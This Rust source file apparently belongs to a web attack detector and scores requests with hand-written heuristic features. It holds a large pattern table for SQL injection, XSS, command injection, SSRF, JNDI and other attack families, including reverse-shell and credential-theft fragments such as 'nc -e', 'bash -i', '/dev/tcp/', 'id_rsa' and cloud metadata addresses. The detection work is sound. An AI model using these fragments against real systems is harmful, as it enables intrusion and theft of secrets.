//! Hand-written security heuristics: dense, named features that say how much a request looks
//! like each family of web attack (SQL injection, XSS, traversal, command injection, ...), plus
//! shape statistics (length, entropy, character-class ratios).
//!
//! Learned n-gram weights need many examples of a family; these counts give a model (and a human
//! reading an explanation) a strong prior from a few hundred literals that rarely occur in benign
//! traffic. They are computed on the normalised text (see [`crate::normalize`]), except the
//! uppercase ratio and CRLF injection, which only make sense on the raw text.
//!
//! Cost: one Aho–Corasick DFA pass over the text for every literal (each literal maps to a
//! feature slot and an optional context check, e.g. "a command name preceded by `;`, `|`, `&&`,
//! a backtick or `$(`"), one histogram pass, one pass over the raw text, and small byte loops that
//! run only where the automaton found a trigger. No allocation, except for nested `${...}` lookups
//! (rare) which are resolved into a scratch vector.

use std::sync::LazyLock;

use aho_corasick::automaton::Automaton as _;
use aho_corasick::dfa::DFA;
use aho_corasick::{Anchored, MatchKind};
use memchr::memmem;

/// Number of heuristic features.
pub const N_HEURISTICS: usize = 27;

/// Names of the heuristic features, in slot order.
pub const HEURISTIC_NAMES: [&str; N_HEURISTICS] = [
    "length_log1p",
    "entropy",
    "whitespace_ratio",
    "digit_ratio",
    "raw_uppercase_ratio",
    "non_alnum_ratio",
    "special_chars",
    "sqli_keywords",
    "sqli_tautologies",
    "sqli_syntax",
    "xss_tags_and_sinks",
    "xss_event_handlers",
    "path_traversal",
    "cmdi",
    "ssti",
    "xxe",
    "ssrf",
    "ldap",
    "nosqli",
    "jndi",
    "lookup_nesting_depth",
    "crlf_injection",
    "open_redirect",
    "sensitive_resource",
    "ssi",
    "format_string",
    "attack_families",
];

const LENGTH: usize = 0;
const ENTROPY: usize = 1;
const WHITESPACE_RATIO: usize = 2;
const DIGIT_RATIO: usize = 3;
const RAW_UPPERCASE_RATIO: usize = 4;
const NON_ALNUM_RATIO: usize = 5;
const SPECIAL_CHARS: usize = 6;
const SQLI_KEYWORDS: usize = 7;
const SQLI_TAUTOLOGIES: usize = 8;
const SQLI_SYNTAX: usize = 9;
const XSS: usize = 10;
const XSS_EVENTS: usize = 11;
const PATH_TRAVERSAL: usize = 12;
const CMDI: usize = 13;
const SSTI: usize = 14;
const XXE: usize = 15;
const SSRF: usize = 16;
const LDAP: usize = 17;
const NOSQLI: usize = 18;
const JNDI: usize = 19;
const LOOKUP_DEPTH: usize = 20;
const CRLF: usize = 21;
const OPEN_REDIRECT: usize = 22;
const SENSITIVE: usize = 23;
const SSI: usize = 24;
const FORMAT_STRING: usize = 25;
const ATTACK_FAMILIES: usize = 26;

/// Attack families, named as `goshawk_core::AttackType::as_str`. The order breaks ties in
/// [`matched_patterns`]: more specific families first, sensitive resources last.
pub const FAMILIES: [&str; 15] = [
    "jndi",
    "xxe",
    "ssti",
    "cmdi",
    "sqli",
    "xss",
    "path-traversal",
    "ssrf",
    "ldap",
    "nosqli",
    "crlf",
    "open-redirect",
    "ssi",
    "format-string",
    "sensitive-resource",
];

/// Index into [`FAMILIES`] of a feature slot, `None` for shape statistics.
fn family_of(slot: usize) -> Option<usize> {
    Some(match slot {
        JNDI => 0,
        XXE => 1,
        SSTI => 2,
        CMDI => 3,
        SQLI_KEYWORDS | SQLI_TAUTOLOGIES | SQLI_SYNTAX => 4,
        XSS | XSS_EVENTS => 5,
        PATH_TRAVERSAL => 6,
        SSRF => 7,
        LDAP => 8,
        NOSQLI => 9,
        CRLF => 10,
        OPEN_REDIRECT => 11,
        SSI => 12,
        FORMAT_STRING => 13,
        SENSITIVE => 14,
        _ => return None,
    })
}

/// Context a literal match must satisfy to count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Cond {
    Always,
    /// Not preceded nor followed by a word byte (`select` but not `selected`).
    Word,
    /// Not preceded by a word byte.
    WordStart,
    /// Not followed by a word byte (`.bak` but not `.bakery`).
    WordEnd,
    /// A shell command: preceded (spaces aside) by `;` `|` `&` `` ` `` `{` or `$(`, or starting
    /// the text and followed by one of them (`id;`), and followed by the end or a byte that ends
    /// a shell word (not `=`, so `&id=3` is a parameter).
    Command,
    /// Followed by an absolute or scheme-relative URL (`next=http:`, `url=//evil`).
    AbsUrlAfter,
    /// `on` + at least three letters + optional spaces + `=`, in an attribute position.
    EventHandler,
    /// `=` between two equal operands after `or` / `and` / `xor` / `||` / `&&`.
    Tautology,
    /// `=` comparing after a boolean operator that follows a closing quote or parenthesis.
    BreakoutComparison,
    /// A boolean operator (`or` as a whole word, `||`, ...): never counted itself, it enables the
    /// `Tautology` check on the `=` signs after it (most `=` are `name=value` and skip the check).
    BoolOperator,
    /// `0x` + at least two hex digits as a whole word.
    HexLiteral,
}

use Cond::*;

/// Every literal: text (matched ASCII case-insensitively), feature slot, context check.
const PATTERNS: &[(&str, usize, Cond)] = &[
    // SQL injection: keywords.
    ("select", SQLI_KEYWORDS, Word),
    ("union", SQLI_KEYWORDS, Word),
    ("insert", SQLI_KEYWORDS, Word),
    ("update", SQLI_KEYWORDS, Word),
    ("delete", SQLI_KEYWORDS, Word),
    ("drop", SQLI_KEYWORDS, Word),
    ("truncate", SQLI_KEYWORDS, Word),
    ("alter", SQLI_KEYWORDS, Word),
    ("exec", SQLI_KEYWORDS, Word),
    ("execute", SQLI_KEYWORDS, Word),
    ("declare", SQLI_KEYWORDS, Word),
    ("sleep", SQLI_KEYWORDS, Word),
    ("benchmark", SQLI_KEYWORDS, Word),
    ("waitfor", SQLI_KEYWORDS, Word),
    ("delay", SQLI_KEYWORDS, Word),
    ("having", SQLI_KEYWORDS, Word),
    ("from", SQLI_KEYWORDS, Word),
    ("where", SQLI_KEYWORDS, Word),
    ("order by", SQLI_KEYWORDS, Word),
    ("group by", SQLI_KEYWORDS, Word),
    ("information_schema", SQLI_KEYWORDS, Always),
    ("xp_cmdshell", SQLI_KEYWORDS, Always),
    ("sp_executesql", SQLI_KEYWORDS, Always),
    ("load_file", SQLI_KEYWORDS, Always),
    ("into outfile", SQLI_KEYWORDS, Always),
    ("into dumpfile", SQLI_KEYWORDS, Always),
    ("pg_sleep", SQLI_KEYWORDS, Always),
    ("sysobjects", SQLI_KEYWORDS, Always),
    ("syscolumns", SQLI_KEYWORDS, Always),
    ("sysdatabases", SQLI_KEYWORDS, Always),
    ("sqlite_master", SQLI_KEYWORDS, Always),
    ("mysql.user", SQLI_KEYWORDS, Always),
    ("table_name", SQLI_KEYWORDS, Always),
    ("column_name", SQLI_KEYWORDS, Always),
    ("dbms_pipe", SQLI_KEYWORDS, Always),
    ("utl_http", SQLI_KEYWORDS, Always),
    ("randomblob", SQLI_KEYWORDS, Always),
    ("@@version", SQLI_KEYWORDS, Always),
    ("version()", SQLI_KEYWORDS, WordStart),
    ("database()", SQLI_KEYWORDS, WordStart),
    ("user()", SQLI_KEYWORDS, WordStart),
    ("schema()", SQLI_KEYWORDS, WordStart),
    // SQL injection: tautologies.
    ("'or'", SQLI_TAUTOLOGIES, Always),
    ("' or '", SQLI_TAUTOLOGIES, Always),
    ("\"or\"", SQLI_TAUTOLOGIES, Always),
    ("\" or \"", SQLI_TAUTOLOGIES, Always),
    ("'='", SQLI_TAUTOLOGIES, Always),
    ("' or 1", SQLI_TAUTOLOGIES, Always),
    ("\" or 1", SQLI_TAUTOLOGIES, Always),
    ("' or true", SQLI_TAUTOLOGIES, Always),
    ("') or ('", SQLI_TAUTOLOGIES, Always),
    ("=", SQLI_TAUTOLOGIES, Tautology),
    ("=", SQLI_SYNTAX, BreakoutComparison),
    ("or", SQLI_TAUTOLOGIES, BoolOperator),
    ("and", SQLI_TAUTOLOGIES, BoolOperator),
    ("xor", SQLI_TAUTOLOGIES, BoolOperator),
    ("||", SQLI_TAUTOLOGIES, BoolOperator),
    ("&&", SQLI_TAUTOLOGIES, BoolOperator),
    // SQL injection: syntax.
    ("--", SQLI_SYNTAX, Always),
    (";--", SQLI_SYNTAX, Always),
    ("'--", SQLI_SYNTAX, Always),
    (")--", SQLI_SYNTAX, Always),
    ("';", SQLI_SYNTAX, Always),
    ("\";", SQLI_SYNTAX, Always),
    ("');", SQLI_SYNTAX, Always),
    ("' #", SQLI_SYNTAX, Always),
    ("'#", SQLI_SYNTAX, Always),
    ("' and ", SQLI_SYNTAX, Always),
    ("/*", SQLI_SYNTAX, Always),
    ("*/", SQLI_SYNTAX, Always),
    ("@@", SQLI_SYNTAX, Always),
    ("char(", SQLI_SYNTAX, WordStart),
    ("chr(", SQLI_SYNTAX, WordStart),
    ("nchar(", SQLI_SYNTAX, WordStart),
    ("concat(", SQLI_SYNTAX, WordStart),
    ("concat_ws(", SQLI_SYNTAX, WordStart),
    ("group_concat(", SQLI_SYNTAX, WordStart),
    ("substring(", SQLI_SYNTAX, WordStart),
    ("substr(", SQLI_SYNTAX, WordStart),
    ("ascii(", SQLI_SYNTAX, WordStart),
    ("cast(", SQLI_SYNTAX, WordStart),
    ("convert(", SQLI_SYNTAX, WordStart),
    ("count(*)", SQLI_SYNTAX, WordStart),
    ("md5(", SQLI_SYNTAX, WordStart),
    ("if(", SQLI_SYNTAX, WordStart),
    ("iif(", SQLI_SYNTAX, WordStart),
    ("elt(", SQLI_SYNTAX, WordStart),
    ("make_set(", SQLI_SYNTAX, WordStart),
    ("' like '", SQLI_SYNTAX, Always),
    ("\" like \"", SQLI_SYNTAX, Always),
    ("0x", SQLI_SYNTAX, HexLiteral),
    // XSS: tags, schemes and sinks.
    ("<script", XSS, Always),
    ("</script", XSS, Always),
    ("javascript:", XSS, Always),
    ("vbscript:", XSS, Always),
    ("livescript:", XSS, Always),
    ("<iframe", XSS, Always),
    ("<frame", XSS, Always),
    ("<img", XSS, Always),
    ("<image", XSS, Always),
    ("<svg", XSS, Always),
    ("<body", XSS, Always),
    ("<object", XSS, Always),
    ("<embed", XSS, Always),
    ("<applet", XSS, Always),
    ("<input", XSS, Always),
    ("<form", XSS, Always),
    ("<details", XSS, Always),
    ("<marquee", XSS, Always),
    ("<video", XSS, Always),
    ("<audio", XSS, Always),
    ("<style", XSS, Always),
    ("<link", XSS, Always),
    ("<meta", XSS, Always),
    ("<base", XSS, Always),
    ("<math", XSS, Always),
    ("<a href", XSS, Always),
    ("alert(", XSS, WordStart),
    ("alert`", XSS, WordStart),
    ("prompt(", XSS, WordStart),
    ("confirm(", XSS, WordStart),
    ("eval(", XSS, WordStart),
    ("settimeout(", XSS, WordStart),
    ("setinterval(", XSS, WordStart),
    ("expression(", XSS, WordStart),
    ("fromcharcode", XSS, Always),
    ("document.cookie", XSS, Always),
    ("document.write", XSS, Always),
    ("document.domain", XSS, Always),
    ("document.location", XSS, Always),
    ("window.location", XSS, Always),
    ("innerhtml", XSS, Always),
    ("srcdoc=", XSS, Always),
    ("src=", XSS, WordStart),
    ("href=", XSS, WordStart),
    ("data:text/html", XSS, Always),
    ("on", XSS_EVENTS, EventHandler),
    // Path traversal and file inclusion.
    ("../", PATH_TRAVERSAL, Always),
    ("..\\", PATH_TRAVERSAL, Always),
    ("..;/", PATH_TRAVERSAL, Always),
    ("etc/passwd", PATH_TRAVERSAL, Always),
    ("etc/shadow", PATH_TRAVERSAL, Always),
    ("etc/hosts", PATH_TRAVERSAL, Always),
    ("etc/group", PATH_TRAVERSAL, Always),
    ("win.ini", PATH_TRAVERSAL, Always),
    ("boot.ini", PATH_TRAVERSAL, Always),
    ("system.ini", PATH_TRAVERSAL, Always),
    ("system32", PATH_TRAVERSAL, Always),
    ("/proc/self", PATH_TRAVERSAL, Always),
    ("/proc/version", PATH_TRAVERSAL, Always),
    ("/var/log", PATH_TRAVERSAL, Always),
    ("c:\\", PATH_TRAVERSAL, WordStart),
    ("c:/", PATH_TRAVERSAL, WordStart),
    ("inetpub", PATH_TRAVERSAL, Always),
    ("file://", PATH_TRAVERSAL, Always),
    ("php://", PATH_TRAVERSAL, Always),
    ("zip://", PATH_TRAVERSAL, Always),
    ("phar://", PATH_TRAVERSAL, Always),
    ("expect://", PATH_TRAVERSAL, Always),
    ("glob://", PATH_TRAVERSAL, Always),
    ("data://", PATH_TRAVERSAL, Always),
    // Command injection.
    ("cat", CMDI, Command),
    ("ls", CMDI, Command),
    ("id", CMDI, Command),
    ("whoami", CMDI, Command),
    ("uname", CMDI, Command),
    ("wget", CMDI, Command),
    ("curl", CMDI, Command),
    ("nc", CMDI, Command),
    ("ncat", CMDI, Command),
    ("netcat", CMDI, Command),
    ("bash", CMDI, Command),
    ("sh", CMDI, Command),
    ("zsh", CMDI, Command),
    ("ping", CMDI, Command),
    ("echo", CMDI, Command),
    ("rm", CMDI, Command),
    ("chmod", CMDI, Command),
    ("chown", CMDI, Command),
    ("python", CMDI, Command),
    ("python3", CMDI, Command),
    ("perl", CMDI, Command),
    ("php", CMDI, Command),
    ("ruby", CMDI, Command),
    ("nslookup", CMDI, Command),
    ("dig", CMDI, Command),
    ("ifconfig", CMDI, Command),
    ("ipconfig", CMDI, Command),
    ("netstat", CMDI, Command),
    ("ps", CMDI, Command),
    ("kill", CMDI, Command),
    ("sleep", CMDI, Command),
    ("pwd", CMDI, Command),
    ("env", CMDI, Command),
    ("dir", CMDI, Command),
    ("type", CMDI, Command),
    ("ver", CMDI, Command),
    ("net", CMDI, Command),
    ("systeminfo", CMDI, Command),
    ("tasklist", CMDI, Command),
    ("telnet", CMDI, Command),
    ("sudo", CMDI, Command),
    ("find", CMDI, Command),
    ("head", CMDI, Command),
    ("tail", CMDI, Command),
    ("touch", CMDI, Command),
    ("cmd", CMDI, Command),
    ("/bin/", CMDI, Always),
    ("/usr/bin/", CMDI, Always),
    ("system(", CMDI, WordStart),
    ("passthru(", CMDI, WordStart),
    ("shell_exec(", CMDI, WordStart),
    ("popen(", CMDI, WordStart),
    ("proc_open(", CMDI, WordStart),
    ("cmd.exe", CMDI, Always),
    ("cmd /c", CMDI, Always),
    ("powershell", CMDI, Always),
    ("/bin/sh", CMDI, Always),
    ("/bin/bash", CMDI, Always),
    ("/dev/tcp/", CMDI, Always),
    ("${ifs}", CMDI, Always),
    ("$(", CMDI, Always),
    ("() {", CMDI, Always),
    ("nc -e", CMDI, Always),
    ("bash -i", CMDI, Always),
    ("certutil", CMDI, Always),
    ("invoke-expression", CMDI, Always),
    // Server-side template injection.
    ("{{", SSTI, Always),
    ("}}", SSTI, Always),
    ("${", SSTI, Always),
    ("<%", SSTI, Always),
    ("%>", SSTI, Always),
    ("#{", SSTI, Always),
    ("{%", SSTI, Always),
    ("%}", SSTI, Always),
    ("*{", SSTI, Always),
    ("__class__", SSTI, Always),
    ("__globals__", SSTI, Always),
    ("__mro__", SSTI, Always),
    ("__subclasses__", SSTI, Always),
    ("__builtins__", SSTI, Always),
    ("__import__", SSTI, Always),
    ("__init__", SSTI, Always),
    ("__dict__", SSTI, Always),
    ("config.items", SSTI, Always),
    ("request.application", SSTI, Always),
    ("self.module", SSTI, Always),
    ("getclass(", SSTI, Always),
    ("getruntime(", SSTI, Always),
    ("freemarker", SSTI, Always),
    ("lipsum.", SSTI, Always),
    ("cycler.", SSTI, Always),
    // XML external entities.
    ("<!doctype", XXE, Always),
    ("<!entity", XXE, Always),
    ("<!element", XXE, Always),
    ("<!attlist", XXE, Always),
    ("system \"", XXE, Always),
    ("system '", XXE, Always),
    ("public \"", XXE, Always),
    ("<?xml", XXE, Always),
    ("xi:include", XXE, Always),
    ("xmlns:xi", XXE, Always),
    ("<![cdata[", XXE, Always),
    // Server-side request forgery.
    ("http://127.", SSRF, Always),
    ("https://127.", SSRF, Always),
    ("127.0.0.1", SSRF, Always),
    ("localhost", SSRF, Word),
    ("169.254.169.254", SSRF, Always),
    ("0.0.0.0", SSRF, Always),
    ("[::1]", SSRF, Always),
    ("[::]", SSRF, Always),
    ("::ffff:", SSRF, Always),
    ("gopher://", SSRF, Always),
    ("dict://", SSRF, Always),
    ("file://", SSRF, Always),
    ("tftp://", SSRF, Always),
    ("sftp://", SSRF, Always),
    ("netdoc:", SSRF, Always),
    ("jar:", SSRF, WordStart),
    ("metadata.google.internal", SSRF, Always),
    ("metadata.azure", SSRF, Always),
    ("100.100.100.200", SSRF, Always),
    ("instance-data", SSRF, Always),
    ("/latest/meta-data", SSRF, Always),
    (".nip.io", SSRF, Always),
    ("2130706433", SSRF, Word),
    ("0x7f000001", SSRF, Always),
    ("http://10.", SSRF, Always),
    ("http://192.168.", SSRF, Always),
    ("http://0/", SSRF, Always),
    // LDAP injection.
    ("*)(", LDAP, Always),
    (")(|", LDAP, Always),
    (")(&", LDAP, Always),
    ("(&", LDAP, Always),
    ("(|", LDAP, Always),
    ("(!(", LDAP, Always),
    ("*))", LDAP, Always),
    ("objectclass=", LDAP, Always),
    (")(cn=", LDAP, Always),
    (")(uid=", LDAP, Always),
    // NoSQL injection.
    ("$ne", NOSQLI, WordEnd),
    ("$eq", NOSQLI, WordEnd),
    ("$gt", NOSQLI, WordEnd),
    ("$gte", NOSQLI, WordEnd),
    ("$lt", NOSQLI, WordEnd),
    ("$lte", NOSQLI, WordEnd),
    ("$in", NOSQLI, WordEnd),
    ("$nin", NOSQLI, WordEnd),
    ("$or", NOSQLI, WordEnd),
    ("$and", NOSQLI, WordEnd),
    ("$not", NOSQLI, WordEnd),
    ("$nor", NOSQLI, WordEnd),
    ("$where", NOSQLI, WordEnd),
    ("$regex", NOSQLI, WordEnd),
    ("$exists", NOSQLI, WordEnd),
    ("$expr", NOSQLI, WordEnd),
    ("$elemmatch", NOSQLI, WordEnd),
    ("[$", NOSQLI, Always),
    ("{\"$", NOSQLI, Always),
    ("{'$", NOSQLI, Always),
    // JNDI / Log4Shell.
    ("jndi:", JNDI, Always),
    ("ldap://", JNDI, Always),
    ("ldaps://", JNDI, Always),
    ("rmi://", JNDI, Always),
    ("dns://", JNDI, Always),
    ("iiop://", JNDI, Always),
    ("corba://", JNDI, Always),
    ("nds://", JNDI, Always),
    ("nis://", JNDI, Always),
    ("${lower:", JNDI, Always),
    ("${upper:", JNDI, Always),
    ("${::-", JNDI, Always),
    ("${env:", JNDI, Always),
    ("${sys:", JNDI, Always),
    ("${java:", JNDI, Always),
    // CRLF injection that survived into the text (line breaks themselves are seen in the raw).
    ("set-cookie:", CRLF, Always),
    // Open redirect. An absolute URL as a value is no sign by itself (links, referrers and
    // pasted addresses are ordinary values: counting every `=http://` flagged 23 % of real
    // referrer URLs placed in a search box); one in a parameter named for a redirect is, and so
    // is a scheme-relative `//host`, which ordinary values rarely are.
    ("=//", OPEN_REDIRECT, Always),
    ("=\\\\", OPEN_REDIRECT, Always),
    ("redirect=", OPEN_REDIRECT, AbsUrlAfter),
    ("redirect_uri=", OPEN_REDIRECT, AbsUrlAfter),
    ("redirect_url=", OPEN_REDIRECT, AbsUrlAfter),
    ("redir=", OPEN_REDIRECT, AbsUrlAfter),
    ("url=", OPEN_REDIRECT, AbsUrlAfter),
    ("next=", OPEN_REDIRECT, AbsUrlAfter),
    ("return=", OPEN_REDIRECT, AbsUrlAfter),
    ("returnto=", OPEN_REDIRECT, AbsUrlAfter),
    ("return_to=", OPEN_REDIRECT, AbsUrlAfter),
    ("returnurl=", OPEN_REDIRECT, AbsUrlAfter),
    ("goto=", OPEN_REDIRECT, AbsUrlAfter),
    ("dest=", OPEN_REDIRECT, AbsUrlAfter),
    ("destination=", OPEN_REDIRECT, AbsUrlAfter),
    ("continue=", OPEN_REDIRECT, AbsUrlAfter),
    ("forward=", OPEN_REDIRECT, AbsUrlAfter),
    ("target=", OPEN_REDIRECT, AbsUrlAfter),
    // Sensitive resources.
    ("/etc/passwd", SENSITIVE, Always),
    (".git/", SENSITIVE, Always),
    (".svn/", SENSITIVE, Always),
    (".hg/", SENSITIVE, Always),
    (".env", SENSITIVE, WordEnd),
    ("wp-config", SENSITIVE, Always),
    ("web.config", SENSITIVE, Always),
    ("/admin", SENSITIVE, Always),
    ("/phpmyadmin", SENSITIVE, Always),
    ("export", SENSITIVE, Word),
    ("credit_card", SENSITIVE, Always),
    ("creditcard", SENSITIVE, Always),
    ("backup", SENSITIVE, Always),
    (".bak", SENSITIVE, WordEnd),
    (".sql", SENSITIVE, WordEnd),
    (".old", SENSITIVE, WordEnd),
    (".orig", SENSITIVE, WordEnd),
    (".swp", SENSITIVE, WordEnd),
    (".inc", SENSITIVE, WordEnd),
    (".cnf", SENSITIVE, WordEnd),
    (".pem", SENSITIVE, WordEnd),
    (".htaccess", SENSITIVE, Always),
    (".htpasswd", SENSITIVE, Always),
    (".ds_store", SENSITIVE, Always),
    ("id_rsa", SENSITIVE, Always),
    ("phpinfo", SENSITIVE, Always),
    ("server-status", SENSITIVE, Always),
    ("web-inf", SENSITIVE, Always),
    ("config.php", SENSITIVE, Always),
    ("/cgi-bin/", SENSITIVE, Always),
    // Server-side includes.
    ("<!--#", SSI, Always),
    // Format strings.
    ("%n", FORMAT_STRING, WordEnd),
    ("%s%s", FORMAT_STRING, Always),
    ("%x%x", FORMAT_STRING, Always),
    ("%p%p", FORMAT_STRING, Always),
    ("%d%d", FORMAT_STRING, Always),
    ("%x.%x", FORMAT_STRING, Always),
];

/// The automaton over every literal of [`PATTERNS`], all matches reported (overlapping).
///
/// `aho_corasick` builds it (a DFA, ASCII case-insensitive); its transitions are then copied
/// into a flat table walked by [`scan`] with one lookup per byte. The scan is most of the cost
/// of the heuristics and requests hold several short matches (`id`, `on`, `=`). Measured on the
/// bench mix: `find_overlapping_iter` ~270 ns per ~90-byte request against ~200 ns stepping the
/// crate's DFA through its `Automaton` trait; this table then cut the heuristics from ~7,600 to
/// ~6,500 instructions per request (callgrind), and exact-width rows (66 columns, 0.5 MB)
/// instead of power-of-two rows (128, 1 MB) a further ~8% of wall time.
struct Matcher {
    /// Byte → column; bytes that occur in no pattern share column 0.
    classes: [u8; 256],
    /// Row length: the number of columns.
    stride: u32,
    /// `trans[state + class]` is the next state; states are row offsets (premultiplied).
    trans: Vec<u32>,
    /// States from here on are match states.
    first_match: u32,
    /// Patterns ending in each match state, by `(state - first_match) / stride`.
    matches: Vec<Vec<u16>>,
}

static MATCHER: LazyLock<Matcher> = LazyLock::new(build_matcher);

fn build_matcher() -> Matcher {
    use std::collections::HashMap;
    let dfa = DFA::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .prefilter(false)
        .build(PATTERNS.iter().map(|p| p.0))
        .expect("the static pattern set builds");
    // Columns: one per (case-folded) byte used by a pattern, column 0 for all other bytes.
    let mut classes = [0u8; 256];
    let mut representative = vec![0u8];
    for &(literal, _, _) in PATTERNS {
        for b in literal.bytes() {
            let lower = b.to_ascii_lowercase();
            if classes[lower as usize] == 0 {
                let class = u8::try_from(representative.len()).expect("< 256 distinct bytes");
                classes[lower as usize] = class;
                classes[lower.to_ascii_uppercase() as usize] = class;
                representative.push(lower);
            }
        }
    }
    representative[0] = (0..=255u8)
        .find(|&b| classes[b as usize] == 0)
        .expect("some byte is in no pattern");
    // Every state reachable from the start, in breadth-first order.
    let start = dfa
        .start_state(Anchored::No)
        .expect("unanchored search is supported");
    let mut order = vec![start];
    let mut seen: HashMap<_, usize> = HashMap::from([(start, 0)]);
    let mut k = 0;
    while k < order.len() {
        let sid = order[k];
        for &b in &representative {
            let next = dfa.next_state(Anchored::No, sid, b);
            seen.entry(next).or_insert_with(|| {
                order.push(next);
                order.len() - 1
            });
        }
        k += 1;
    }
    // Number non-match states first (the start state is one: no pattern is empty).
    let (plain, matching): (Vec<_>, Vec<_>) = order.iter().partition(|&&sid| !dfa.is_match(sid));
    let stride = representative.len();
    let row = |index: usize| u32::try_from(index * stride).expect("table fits u32");
    let renumbered: HashMap<_, u32> = plain
        .iter()
        .chain(&matching)
        .enumerate()
        .map(|(index, &sid)| (sid, row(index)))
        .collect();
    let mut trans = vec![0u32; order.len() * stride];
    for (&sid, &state) in &renumbered {
        for (class, &b) in representative.iter().enumerate() {
            let next = dfa.next_state(Anchored::No, sid, b);
            trans[state as usize + class] = renumbered[&next];
        }
    }
    let matches = matching
        .iter()
        .map(|&sid| {
            (0..dfa.match_len(sid))
                .map(|k| {
                    let pid = dfa.match_pattern(sid, k).as_usize();
                    u16::try_from(pid).expect("< 65536 patterns")
                })
                .collect()
        })
        .collect();
    Matcher {
        classes,
        stride: stride as u32,
        trans,
        first_match: row(plain.len()),
        matches,
    }
}

/// `true` for bytes that continue a word: ASCII alphanumerics, `_` and every non-ASCII byte
/// (letters such as `ñ`).
#[inline]
fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

#[inline]
fn word_start(t: &[u8], s: usize) -> bool {
    s == 0 || !is_word(t[s - 1])
}

#[inline]
fn word_end(t: &[u8], e: usize) -> bool {
    e >= t.len() || !is_word(t[e])
}

/// A shell separator before `s`, spaces skipped.
fn shell_separator_before(t: &[u8], s: usize) -> bool {
    let mut p = s;
    while p > 0 && t[p - 1] == b' ' {
        p -= 1;
    }
    if p == 0 {
        return false;
    }
    match t[p - 1] {
        b';' | b'|' | b'&' | b'`' | b'{' => true,
        b'(' => p >= 2 && t[p - 2] == b'$',
        _ => false,
    }
}

/// The end of a shell word at `e`.
fn shell_word_end(t: &[u8], e: usize) -> bool {
    e >= t.len()
        || matches!(
            t[e],
            b' ' | b';'
                | b'|'
                | b'&'
                | b'`'
                | b')'
                | b'\''
                | b'"'
                | b'<'
                | b'>'
                | b'$'
                | b'}'
                | b','
        )
}

fn starts_with_ci(s: &[u8], prefix: &[u8]) -> bool {
    s.len() >= prefix.len() && s[..prefix.len()].eq_ignore_ascii_case(prefix)
}

fn abs_url_at(t: &[u8], e: usize) -> bool {
    let rest = &t[e.min(t.len())..];
    [
        &b"http:"[..],
        b"https:",
        b"ftp:",
        b"//",
        b"\\\\",
        b"/\\",
        b"\\/",
    ]
    .iter()
    .any(|p| starts_with_ci(rest, p))
}

/// `on` at `s` starts an event-handler attribute: `<svg/onload=`, `" onmouseover =`.
fn event_handler_at(t: &[u8], s: usize) -> bool {
    if s > 0 && !matches!(t[s - 1], b' ' | b'/' | b'"' | b'\'' | b'`') {
        return false;
    }
    let mut j = s + 2;
    while j < t.len() && t[j].is_ascii_alphabetic() {
        j += 1;
    }
    if j - (s + 2) < 3 {
        return false;
    }
    while j < t.len() && t[j] == b' ' {
        j += 1;
    }
    t.get(j) == Some(&b'=')
}

/// Longest operand looked at on either side of a tautology's `=`.
const MAX_OPERAND: usize = 64;

/// `0x` at `s` starts a hex literal of at least two digits that is a whole word.
fn hex_literal_at(t: &[u8], s: usize) -> bool {
    if !word_start(t, s) {
        return false;
    }
    let digits = t[s + 2..]
        .iter()
        .take_while(|b| b.is_ascii_hexdigit())
        .count();
    digits >= 2 && word_end(t, s + 2 + digits)
}

/// A comparison `left = right` (`==` too) at the `=` at `s`, right after a boolean operator
/// (`or`, `and`, `xor`, `||`, `&&`; opening parentheses between are skipped).
struct BooleanComparison {
    /// Both operands are the same: `or 1=1`, `' or 'a'='a`, `'or''='`.
    tautology: bool,
    /// The operator follows a closing quote or parenthesis — the shape of a value that breaks out
    /// of its SQL string or sub-expression: `1' and 5999=5879`, `-9265") or 7834=1685`.
    after_breakout: bool,
}

fn boolean_comparison_at(t: &[u8], s: usize) -> Option<BooleanComparison> {
    if s > 0 && matches!(t[s - 1], b'=' | b'!' | b'<' | b'>') {
        return None;
    }
    let right_from = if t.get(s + 1) == Some(&b'=') {
        s + 2
    } else {
        s + 1
    };
    // Left operand.
    let mut p = s;
    while p > 0 && t[p - 1] == b' ' {
        p -= 1;
    }
    if p == 0 {
        return None;
    }
    let (left, left_quoted, mut before) = match t[p - 1] {
        q @ (b'\'' | b'"') => {
            let close = p - 1;
            let from = close.saturating_sub(MAX_OPERAND);
            let open = from + t[from..close].iter().rposition(|&b| b == q)?;
            (&t[open + 1..close], true, open)
        }
        _ => {
            let end = p;
            let mut b = p;
            while b > 0
                && end - b < MAX_OPERAND
                && (t[b - 1].is_ascii_alphanumeric() || t[b - 1] == b'_')
            {
                b -= 1;
            }
            if b == end {
                return None;
            }
            (&t[b..end], false, b)
        }
    };
    // Boolean operator before the left operand.
    while before > 0 && matches!(t[before - 1], b' ' | b'(') {
        before -= 1;
    }
    let head = &t[..before];
    let operator_len = [&b"or"[..], b"and", b"xor"]
        .iter()
        .find(|op| {
            head.len() >= op.len()
                && head[head.len() - op.len()..].eq_ignore_ascii_case(op)
                && word_start(head, head.len() - op.len())
        })
        .map(|op| op.len())
        .or_else(|| (head.ends_with(b"||") || head.ends_with(b"&&")).then_some(2))?;
    let mut q = head.len() - operator_len;
    while q > 0 && t[q - 1] == b' ' {
        q -= 1;
    }
    let after_breakout = q > 0 && matches!(t[q - 1], b'\'' | b'"' | b')');
    // Right operand.
    let mut r = right_from;
    while r < t.len() && t[r] == b' ' {
        r += 1;
    }
    let right: &[u8] = match t.get(r) {
        Some(&quote @ (b'\'' | b'"')) => {
            let body = &t[r + 1..t.len().min(r + 1 + MAX_OPERAND)];
            let end = body.iter().position(|&b| b == quote).unwrap_or(body.len());
            if !left_quoted {
                return Some(BooleanComparison {
                    tautology: false,
                    after_breakout,
                });
            }
            &body[..end]
        }
        Some(_) => {
            let body = &t[r..t.len().min(r + MAX_OPERAND)];
            let end = body
                .iter()
                .position(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))
                .unwrap_or(body.len());
            &body[..end]
        }
        None => return None,
    };
    let tautology = (left_quoted || !left.is_empty()) && left.eq_ignore_ascii_case(right);
    Some(BooleanComparison {
        tautology,
        after_breakout,
    })
}

impl Cond {
    /// Whether the match `t[s..e]` counts, and the label to show for it.
    fn check(self, t: &[u8], s: usize, e: usize) -> bool {
        match self {
            Always => true,
            Word => word_start(t, s) && word_end(t, e),
            WordStart => word_start(t, s),
            WordEnd => word_end(t, e),
            Command => {
                word_start(t, s)
                    && shell_word_end(t, e)
                    && (shell_separator_before(t, s)
